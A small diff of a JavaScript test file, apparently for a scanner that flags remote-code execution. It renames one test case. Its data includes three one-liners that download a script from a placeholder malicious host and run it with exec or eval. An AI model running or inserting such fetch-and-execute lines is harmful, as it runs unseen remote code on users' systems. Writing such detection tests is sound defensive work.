@@ -36,7 +36,7 @@ test.each([
   "exec(requests.get('https://cdn.evil.dev/i.py').text)",
   "exec(urllib.request.urlopen('https://cdn.evil.dev/i.py').read())",
   "eval(await (await fetch('https://cdn.evil.dev/i.js')).text())",
-])("%s runs what nobody has seen", (command) => {
+])("%s runs what no one has seen", (command) => {
   expect(messagesOf(inBlock(command))).toEqual(["unseen"]);
 });
 
